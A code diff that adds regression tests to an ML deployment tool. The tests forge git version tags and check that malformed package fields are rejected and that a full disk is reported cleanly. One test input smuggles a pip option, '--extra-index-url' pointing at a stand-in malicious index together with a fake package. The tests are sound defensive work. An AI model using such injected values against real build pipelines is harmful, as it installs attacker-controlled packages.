@@ -149,3 +149,77 @@ def test_build_false_writes_the_context_and_tells_the_command(project: Project) 
     assert (context / "Dockerfile").is_file()
     said = project.where().read().current("qa").record["deploy"]
     assert said["docker"]["built"] is False and said["command"] == "python rollout.py"
+
+
+def _forge(project: Project, version: str, **changed: object) -> None:
+    """A version tag at a new commit, with v0.1.0's record and `changed` fields: what
+    anyone who may push tags can write."""
+    from tests.conftest import git
+
+    said = git(project.root, "tag", "-l", "--format=%(contents)", "iris@v0.1.0")
+    record = json.loads(said.split("mlgate-record: ")[1])
+    git(project.root, "commit", "-q", "--allow-empty", "-m", f"forged {version}")
+    commit = git(project.root, "rev-parse", "HEAD")
+    body = {**record, "version": version, "commit": commit, **changed}
+    git(
+        project.root,
+        "tag",
+        "-a",
+        "-m",
+        f"s\n\nmlgate-record: {json.dumps(body)}",
+        f"iris@{version}",
+    )
+
+
+@pytest.mark.parametrize(
+    "packages",
+    [
+        {"numpy": "2.4.6\n--extra-index-url https://evil.example/simple\nevilpkg==6.6.6"},
+        {"numpy x": "2.4.6"},
+        {"--index-url": "1"},
+        {"numpy": "2.4.6 ; os_name == 'nt'"},
+    ],
+)
+def test_packages_that_are_not_a_name_and_a_version_make_the_version_unusable(
+    project: Project, capsys: pytest.CaptureFixture[str], packages: dict[str, str]
+) -> None:
+    """A forged record's packages went into requirements.txt as written: pip options ran
+    in the build, and a name with a space was a traceback."""
+    _forge(project, "v0.2.0", packages=packages)
+    code = main(["-C", str(project.root), "promote", "v0.2.0", "--to", "qa"])
+    said = capsys.readouterr()
+    assert code == 2 and "Traceback" not in said.err
+    assert "tag iris@v0.2.0 is corrupt" in said.err and "nothing was changed" in said.err
+    assert not (project.root / ".mlgate/docker/qa-v0.2.0").exists()
+    assert not (project.root / "rollout.json").exists()
+
+
+def test_a_full_disk_while_writing_the_context_is_said_with_no_traceback(
+    project: Project, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """An OSError there was an internal error, and (with github: true) left the GitHub
+    Deployment in_progress."""
+    from mlgate.deploy import build_context
+
+    def full(source: object, target: object) -> None:
+        raise OSError(28, "No space left on device", str(target))
+
+    monkeypatch.setattr(build_context.shutil, "copyfile", full)
+    before = git_tags(project)
+    assert main(["-C", str(project.root), "promote", "v0.1.0", "--to", "qa"]) == 3
+    said = capsys.readouterr().err
+    assert "Traceback" not in said and "internal error" not in said
+    assert said.startswith(
+        "mlgate: error: deploying v0.1.0 to qa failed: cannot write the build context in "
+    )
+    assert "No space left on device; qa stays on no version" in said
+    assert "free some disk space" in said
+    docker = project.root / ".mlgate/docker"
+    assert [p.name for p in docker.iterdir()] == [".gitignore"]  # no half context
+    assert git_tags(project) == before
+
+
+def git_tags(project: Project) -> list[str]:
+    from tests.conftest import git
+
+    return git(project.root, "tag", "-l").split()
